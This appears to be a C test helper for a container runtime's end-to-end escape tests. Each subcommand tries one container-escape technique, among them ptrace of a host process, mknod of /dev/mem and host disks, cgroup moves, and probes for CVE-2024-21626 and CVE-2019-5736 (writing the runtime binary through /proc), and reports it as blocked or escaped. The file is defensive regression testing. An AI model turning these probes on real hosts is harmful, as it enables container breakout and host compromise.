/*
 * Attacks run from inside a berth container by tests/e2e/escapes.rs. Each subcommand tries
 * one way out and prints one line:
 *   ESCAPED <what>   exit 0: the attack worked (the test fails)
 *   BLOCKED <why>    exit 1: the kernel or the runtime refused it
 *   NOCHANCE <why>   exit 2: the attack never got its opening (the test fails too: it proved
 *                    nothing)
 * Nothing here is destructive when it succeeds: writes put back the byte that was there,
 * dangerous files are only opened for writing, never written, and kernel entry points are
 * called with arguments the kernel rejects after its permission checks.
 * Built with `gcc -static` so that it runs in a busybox image.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <linux/vm_sockets.h>
#include <netinet/in.h>
#include <time.h>
#include <unistd.h>

static int escaped(const char *what) { printf("ESCAPED %s\n", what); return 0; }
static int blocked(const char *what) {
    printf("BLOCKED %s: %s (errno %d)\n", what, strerror(errno), errno);
    return 1;
}
/* A refusal is EPERM, EACCES, EROFS or ENOSYS: a permission or filter check said no. Any
 * other error means the kernel got past its checks and looked at the (deliberately bad)
 * arguments. */
static int refusal(int e) { return e == EPERM || e == EACCES || e == EROFS || e == ENOSYS; }
static int judge(long r, const char *what) {
    if (r >= 0 || !refusal(errno)) {
        printf("ESCAPED %s: the kernel got past its permission checks (r=%ld errno %d %s)\n",
               what, r, r < 0 ? errno : 0, r < 0 ? strerror(errno) : "");
        return 0;
    }
    return blocked(what);
}

static int do_mount(void) {
    mkdir("/tmp/m", 0700);
    return judge(mount("none", "/tmp/m", "tmpfs", 0, ""), "mount tmpfs");
}

static int do_userns(void) {
    /* A new user namespace gives a full capability set inside it: the start of most
     * kernel privilege escalations. */
    return judge(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare(CLONE_NEWUSER|CLONE_NEWNS)");
}

static int do_userns_clone(void) {
    /* The same through clone(2) and a child. */
    pid_t p = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (p == 0) _exit(0);
    if (p > 0) { waitpid(p, 0, 0); return escaped("clone(CLONE_NEWUSER)"); }
    return judge(p, "clone(CLONE_NEWUSER)");
}

static int do_keyctl(void) {
    /* add_key to the session keyring: keyrings are not namespaced. */
    return judge(syscall(SYS_add_key, "user", "berth-attack", "v", 1, -3), "add_key");
}

static int do_keyctl2(void) {
    /* KEYCTL_GET_KEYRING_ID of the user keyring. */
    return judge(syscall(SYS_keyctl, 0, -4, 0), "keyctl");
}

static int do_bpf(void) {
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
    if (r >= 0) close((int)r);
    return judge(r, "bpf(BPF_MAP_CREATE)");
}

static int do_ptrace(const char *pid_s, const char *marker) {
    /* The host process must be the one the test started: its command line names marker. */
    pid_t pid = atoi(pid_s);
    char p[64], buf[4096];
    snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
    int fd = open(p, O_RDONLY);
    if (fd < 0) return blocked("see the host process in /proc");
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return blocked("read its command line");
    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = ' ';
    buf[n] = 0;
    if (!strstr(buf, marker)) {
        errno = ESRCH;
        printf("BLOCKED pid %d in this container is not the host process (%s)\n", pid, buf);
        return 1;
    }
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) return blocked("ptrace(PTRACE_ATTACH) the host process");
    waitpid(pid, 0, 0);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return escaped("ptrace attached to a host process");
}

static int do_rawsock(void) {
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (s >= 0) { close(s); return escaped("socket(AF_INET, SOCK_RAW)"); }
    return blocked("socket(AF_INET, SOCK_RAW)");
}

static int do_vsock(void) {
    int s = socket(AF_VSOCK, SOCK_STREAM, 0);
    if (s >= 0) { close(s); return escaped("socket(AF_VSOCK)"); }
    return judge(s, "socket(AF_VSOCK)");
}

/* Opens for writing without writing: a successful open is already the escape. */
static int open_write(const char *path) {
    int fd = open(path, O_WRONLY);
    char what[512];
    snprintf(what, sizeof what, "open %s for writing", path);
    if (fd >= 0) { close(fd); return escaped(what); }
    return blocked(what);
}

/* Reads a masked path: anything read is an escape. */
static int read_masked(const char *path) {
    char what[512], buf[256];
    snprintf(what, sizeof what, "read %s", path);
    struct stat st;
    if (stat(path, &st) == 0 && S_ISDIR(st.st_mode)) {
        DIR *d = opendir(path);
        if (!d) return blocked(what);
        struct dirent *e;
        int n = 0;
        while ((e = readdir(d))) if (strcmp(e->d_name, ".") && strcmp(e->d_name, "..")) n++;
        closedir(d);
        if (n) { printf("ESCAPED %s: %d entries\n", what, n); return 0; }
        printf("BLOCKED %s: empty\n", what);
        return 1;
    }
    int fd = open(path, O_RDONLY);
    if (fd < 0) return blocked(what);
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n > 0) { printf("ESCAPED %s: %zd bytes\n", what, n); return 0; }
    if (n == 0) { printf("BLOCKED %s: empty\n", what); return 1; }
    return blocked(what);
}

static int do_module(void) {
    /* An empty image: the kernel refuses it as ENOEXEC once the permission checks pass. */
    return judge(syscall(SYS_init_module, "", 0UL, ""), "init_module");
}

static int do_finit_module(void) {
    int fd = open("/bin/busybox", O_RDONLY);
    return judge(syscall(SYS_finit_module, fd, "", 0), "finit_module");
}

static int do_kexec(void) {
    /* Unknown flags: EINVAL after the CAP_SYS_BOOT check. */
    return judge(syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0x7ff00000UL), "kexec_load");
}

static int do_iouring(void) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long r = syscall(SYS_io_uring_setup, 1, &p);
    if (r >= 0) close((int)r);
    return judge(r, "io_uring_setup");
}

static int do_userfaultfd(void) {
    long r = syscall(SYS_userfaultfd, O_CLOEXEC);
    if (r >= 0) close((int)r);
    return judge(r, "userfaultfd");
}

static int do_mknod_disk(const char *maj, const char *min) {
    /* Docker's containers may create device nodes (CAP_MKNOD), but the devices cgroup must
     * refuse opening any but the harmless ones. */
    unlink("/tmp/disk");
    if (mknod("/tmp/disk", S_IFBLK | 0600, makedev(atoi(maj), atoi(min))) < 0)
        return blocked("mknod a block device");
    int fd = open("/tmp/disk", O_RDONLY);
    if (fd < 0) return blocked("open the host's disk through a device node");
    char buf[512];
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n > 0) return escaped("read the host's disk through a device node");
    return blocked("read the host's disk");
}

static int do_mknod_mem(void) {
    unlink("/tmp/mem");
    if (mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)) < 0) return blocked("mknod /dev/mem");
    int fd = open("/tmp/mem", O_RDONLY);
    if (fd >= 0) { close(fd); return escaped("opened /dev/mem (1:1) through a device node"); }
    return blocked("open /dev/mem through a device node");
}

static int do_mknod_kmsg(void) {
    /* Writing the kernel log forges host log lines. */
    unlink("/tmp/kmsg");
    if (mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11)) < 0) return blocked("mknod /dev/kmsg");
    int fd = open("/tmp/kmsg", O_WRONLY);
    if (fd >= 0) { close(fd); return escaped("opened /dev/kmsg (1:11) for writing"); }
    return blocked("open /dev/kmsg through a device node");
}

static int do_cgroup(void) {
    /* Every cgroup.procs the container can see: moving itself anywhere is the escape. */
    const char *paths[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
                           "/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cpu/cgroup.procs",
                           "/sys/fs/cgroup/unified/cgroup.procs",
                           "/sys/fs/cgroup/devices/cgroup.procs", NULL};
    char pid[32];
    int seen = 0;
    snprintf(pid, sizeof pid, "%d\n", getpid());
    for (int i = 0; paths[i]; i++) {
        if (access(paths[i], F_OK) != 0) continue;
        seen++;
        int fd = open(paths[i], O_WRONLY);
        if (fd >= 0) {
            ssize_t n = write(fd, pid, strlen(pid));
            close(fd);
            if (n > 0) {
                char what[256];
                snprintf(what, sizeof what, "moved itself through %s", paths[i]);
                return escaped(what);
            }
        }
        printf("refused %s: %s\n", paths[i], strerror(errno));
    }
    if (!seen) { printf("NOCHANCE no cgroup.procs is visible\n"); return 2; }
    errno = EROFS;
    return blocked("write cgroup.procs");
}

/* CVE-2024-21626: a directory descriptor of the host leaked into the container, or a
 * working directory outside its root. Looks for the host's marker file through every open
 * descriptor and through the working directory. */
static int do_fds(const char *marker, const char *content) {
    char rel[4096], buf[256];
    snprintf(rel, sizeof rel, "../../../../../../../../..%s", marker);
    int tried = 0;
    for (int fd = 0; fd < 1024; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0) continue;
        tried++;
        int f = openat(fd, rel, O_RDONLY);
        if (f < 0 && S_ISDIR(st.st_mode)) f = openat(fd, marker + 1, O_RDONLY);
        if (f >= 0) {
            ssize_t n = read(f, buf, sizeof buf - 1);
            close(f);
            if (n > 0) {
                buf[n] = 0;
                if (strstr(buf, content)) {
                    printf("ESCAPED fd %d reaches the host's %s\n", fd, marker);
                    return 0;
                }
            }
        }
    }
    int f = open(rel, O_RDONLY);
    if (f < 0) f = open(marker + 1, O_RDONLY);
    if (f >= 0) {
        ssize_t n = read(f, buf, sizeof buf - 1);
        close(f);
        if (n > 0) {
            buf[n] = 0;
            if (strstr(buf, content)) return escaped("the working directory reaches the host");
        }
    }
    printf("BLOCKED %d descriptors and the working directory stay inside\n", tried);
    return 1;
}

/* CVE-2019-5736: watches /proc for processes that run a binary from outside the container
 * (the runtime, caught while it sets up an exec, or made to run itself by an image whose
 * program is `#!/proc/self/exe`), and tries to write that binary, both at once and through
 * an O_PATH descriptor once the process is gone (when ETXTBSY no longer protects it). */
static int do_exe_watch(const char *secs_s, const char *enough_s) {
    time_t end = time(0) + atoi(secs_s);
    int enough = enough_s ? atoi(enough_s) : 0;
    int caught = 0, written = 0, opened = 0;
    int held[256];
    int nheld = 0;
    char seen[65536] = {0};
    char first[512] = "";
    int lasterr = 0;
    while (time(0) < end && (enough <= 0 || caught < enough)) {
        DIR *d = opendir("/proc");
        if (!d) break;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || pid >= (int)sizeof seen || seen[pid]) continue;
            char p[64], link[512];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t n = readlink(p, link, sizeof link - 1);
            if (n <= 0) continue;
            link[n] = 0;
            if (!strcmp(link, "/bin/busybox") || !strcmp(link, "/attack")) continue;
            seen[pid] = 1;
            caught++;
            if (!first[0]) snprintf(first, sizeof first, "%s", link);
            int o = open(p, O_PATH);
            if (o >= 0 && nheld < 256) held[nheld++] = o;
            int w = open(p, O_WRONLY);
            if (w < 0) lasterr = errno;
            if (w >= 0) {
                opened++;
                unsigned char b;
                if (pread(w, &b, 1, 0) != 1) b = 0x7f;
                if (pwrite(w, &b, 1, 0) == 1) written++;
                else lasterr = errno;
                close(w);
            }
        }
        closedir(d);
    }
    for (int i = 0; i < nheld; i++) {
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
        int w = open(p, O_WRONLY);
        if (w < 0) lasterr = errno;
        if (w >= 0) {
            opened++;
            unsigned char b = 0x7f;
            if (pwrite(w, &b, 1, 0) == 1) written++;
            else lasterr = errno;
            close(w);
        }
    }
    printf("caught=%d opened=%d written=%d first=%s refused=%s\n", caught, opened, written, first,
           lasterr ? strerror(lasterr) : "-");
    if (written) return escaped("wrote to a binary from outside the container");
    if (!caught) { printf("NOCHANCE no outside binary ran in the container\n"); return 2; }
    errno = EPERM;
    return blocked("write the runtime's binary");
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IOLBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: attack <name> [args]\n"); return 3; }
    const char *c = argv[1];
    if (!strcmp(c, "mount")) return do_mount();
    if (!strcmp(c, "userns")) return do_userns();
    if (!strcmp(c, "userns-clone")) return do_userns_clone();
    if (!strcmp(c, "add_key")) return do_keyctl();
    if (!strcmp(c, "keyctl")) return do_keyctl2();
    if (!strcmp(c, "bpf")) return do_bpf();
    if (!strcmp(c, "ptrace") && argc == 4) return do_ptrace(argv[2], argv[3]);
    if (!strcmp(c, "rawsock")) return do_rawsock();
    if (!strcmp(c, "vsock")) return do_vsock();
    if (!strcmp(c, "write") && argc == 3) return open_write(argv[2]);
    if (!strcmp(c, "read") && argc == 3) return read_masked(argv[2]);
    if (!strcmp(c, "init_module")) return do_module();
    if (!strcmp(c, "finit_module")) return do_finit_module();
    if (!strcmp(c, "kexec")) return do_kexec();
    if (!strcmp(c, "io_uring")) return do_iouring();
    if (!strcmp(c, "userfaultfd")) return do_userfaultfd();
    if (!strcmp(c, "mknod-disk") && argc == 4) return do_mknod_disk(argv[2], argv[3]);
    if (!strcmp(c, "mknod-mem")) return do_mknod_mem();
    if (!strcmp(c, "mknod-kmsg")) return do_mknod_kmsg();
    if (!strcmp(c, "cgroup")) return do_cgroup();
    if (!strcmp(c, "fds") && argc == 4) return do_fds(argv[2], argv[3]);
    if (!strcmp(c, "exe-watch") && (argc == 3 || argc == 4))
        return do_exe_watch(argv[2], argc == 4 ? argv[3] : 0);
    fprintf(stderr, "attack: unknown attack %s\n", c);
    return 3;
}
